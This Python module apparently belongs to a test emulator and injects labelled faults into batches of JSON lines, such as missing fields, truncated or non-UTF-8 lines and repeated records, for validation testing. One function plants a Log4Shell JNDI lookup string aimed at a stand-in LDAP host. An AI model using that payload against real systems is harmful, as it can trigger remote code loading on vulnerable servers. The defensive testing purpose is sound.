"""Faults in the lines of a batch: what is spoiled, in so many lines, and the manifest's entry.

Every function takes a batch and gives it back spoiled, so that one batch can have several faults.
"""

import random
from collections.abc import Callable, Sequence
from typing import Any, Final

import msgspec

from receiver.emulator.batches import Batch, PlantedFault
from receiver.emulator.lines import encode_line
from receiver.limits import LINE_BYTES_MAX

ERROR: Final = "error"
WARNING: Final = "warning"
UNEXPECTED_FIELD: Final = "EdgeDebugTrace"

Change = Callable[[dict[str, Any]], None]


def change_records(
    batch: Batch, *, code: str, severity: str, field: str, count: int, change: Change,
    rng: random.Random,
) -> Batch:  # fmt: skip
    """Return the batch with `change` done to `count` of its records: the base of most faults."""

    def edit(line: bytes) -> bytes:
        record = msgspec.json.decode(line)
        change(record)
        return encode_line(record)

    return change_lines(
        batch, code=code, severity=severity, field=field, count=count, edit=edit, rng=rng
    )


def change_lines(
    batch: Batch, *, code: str, severity: str, field: str = "", count: int,
    edit: Callable[[bytes], bytes], rng: random.Random,
) -> Batch:  # fmt: skip
    """Return the batch with `edit` done to `count` of its lines, as bytes."""
    spoiled = list(batch.lines)
    places = sorted(rng.sample(range(len(spoiled)), min(count, len(spoiled))))
    for place in places:
        spoiled[place] = edit(spoiled[place])
    return _planted(batch, spoiled, code=code, severity=severity, field=field, places=places)


def drop_field(batch: Batch, field: str, *, count: int, rng: random.Random) -> Batch:
    """A field that the job asks for has no key in the record."""

    def drop(record: dict[str, Any]) -> None:
        del record[field]

    return change_records(
        batch, code="field-missing", severity=ERROR, field=field, count=count, change=drop, rng=rng
    )


def add_field(batch: Batch, *, count: int, rng: random.Random) -> Batch:
    """The record has a key that nobody asked for."""

    def add(record: dict[str, Any]) -> None:
        record[UNEXPECTED_FIELD] = "a<b"

    return change_records(
        batch, code="field-unexpected", severity=ERROR, field=UNEXPECTED_FIELD, count=count,
        change=add, rng=rng,
    )  # fmt: skip


def set_field(
    batch: Batch, field: str, value: Any, *, code: str, severity: str = ERROR, count: int,
    rng: random.Random,
) -> Batch:  # fmt: skip
    """The field holds `value`, or what `value` makes of the value that it had."""

    def change(record: dict[str, Any]) -> None:
        record[field] = value(record[field]) if callable(value) else value

    return change_records(
        batch, code=code, severity=severity, field=field, count=count, change=change, rng=rng
    )


def arm_lookup(batch: Batch, field: str, *, count: int, rng: random.Random) -> Batch:
    """A line holds the `${` that the job's CVE-2021-44228 option would have rewritten."""

    def arm(record: dict[str, Any]) -> None:
        record[field] = "${jndi:ldap://198.51.100.23/a}"

    return change_records(  # no field: the option is about the line, whatever it holds
        batch, code="record-unrewritten", severity=ERROR, field="", count=count, change=arm, rng=rng
    )


def repeat_key(batch: Batch, *, count: int, rng: random.Random) -> Batch:
    """A record names its first key again at its end; most readers keep only one of the two."""
    field = next(iter(msgspec.json.decode(batch.lines[0])))

    def repeat(line: bytes) -> bytes:
        value = msgspec.json.encode(msgspec.json.decode(line)[field])
        return line[:-1] + b',"%b":%b}' % (field.encode(), value)

    return change_lines(
        batch, code="line-key-repeated", severity=ERROR, field=field, count=count, edit=repeat,
        rng=rng,
    )  # fmt: skip


def cut_line(batch: Batch, *, count: int, rng: random.Random) -> Batch:
    """A line ends in the middle of its record."""
    return change_lines(
        batch, code="line-not-json", severity=ERROR, count=count,
        edit=lambda line: line[: len(line) // 2], rng=rng,
    )  # fmt: skip


def wrap_line(batch: Batch, *, count: int, rng: random.Random) -> Batch:
    """A line is an array that holds the record."""
    return change_lines(
        batch, code="line-not-object", severity=ERROR, count=count,
        edit=lambda line: b"[%b]" % line, rng=rng,
    )  # fmt: skip


def break_utf8(batch: Batch, *, count: int, rng: random.Random) -> Batch:
    """A line holds a byte of Latin-1, in a key of its own."""
    return change_lines(
        batch, code="line-not-utf8", severity=ERROR, count=count,
        edit=lambda line: line.replace(b'{"', b'{"Z\xfcrich":1,"', 1), rng=rng,
    )  # fmt: skip


def lengthen_line(batch: Batch, *, rng: random.Random) -> Batch:
    """One line is longer than any is read; it would be a good record otherwise."""
    return change_lines(
        batch, code="line-too-long", severity=ERROR, count=1,
        edit=lambda line: line[:-1] + b" " * LINE_BYTES_MAX + b"}", rng=rng,
    )  # fmt: skip


def insert_blank_lines(batch: Batch, *, count: int, rng: random.Random) -> Batch:
    """Lines with nothing in them stand between the records."""
    places = sorted(rng.sample(range(len(batch.lines)), min(count, len(batch.lines))))
    return _insert(batch, [(place, b"") for place in places], code="line-blank", severity=WARNING)


def repeat_records(batch: Batch, *, count: int, rng: random.Random) -> Batch:
    """Records come a second time, byte for byte, at the end of the batch: a retry's trace."""
    count = min(count, len(batch.lines))
    first = rng.randrange(len(batch.lines) - count + 1)
    end = len(batch.lines)
    again = [(end, line) for line in batch.lines[first : first + count]]
    return _insert(batch, again, code="record-repeated", severity=WARNING)


def replace_batch(batch: Batch, lines: Sequence[bytes]) -> Batch:
    """All lines are another data set's."""
    fault = PlantedFault(key=batch.key, code="dataset-other", severity=ERROR, count=len(lines))
    return msgspec.structs.replace(batch, lines=tuple(lines), planted=(*batch.planted, fault))


def empty_batch(batch: Batch) -> Batch:
    """The object is a whole gzip member with nothing inside."""
    fault = PlantedFault(key=batch.key, code="batch-empty", severity=WARNING)
    return msgspec.structs.replace(batch, lines=(), planted=(*batch.planted, fault))


def _insert(
    batch: Batch, insertions: Sequence[tuple[int, bytes]], *, code: str, severity: str
) -> Batch:
    """Put lines before those at the places, ascending; what was planted before moves along."""
    lines = list(batch.lines)
    for place, line in reversed(insertions):
        lines.insert(place, line)
    moved = tuple(
        msgspec.structs.replace(
            fault,
            lines=tuple(
                number + sum(place < number for place, _ in insertions) for number in fault.lines
            ),
        )
        for fault in batch.planted
    )
    places = [place + earlier for earlier, (place, _) in enumerate(insertions)]
    before = msgspec.structs.replace(batch, planted=moved)
    return _planted(before, lines, code=code, severity=severity, field="", places=places)


def _planted(
    batch: Batch, lines: Sequence[bytes], *, code: str, severity: str, field: str,
    places: Sequence[int],
) -> Batch:  # fmt: skip
    fault = PlantedFault(
        key=batch.key, code=code, severity=severity, field=field, count=len(places),
        lines=tuple(place + 1 for place in places),
    )  # fmt: skip
    return msgspec.structs.replace(batch, lines=tuple(lines), planted=(*batch.planted, fault))
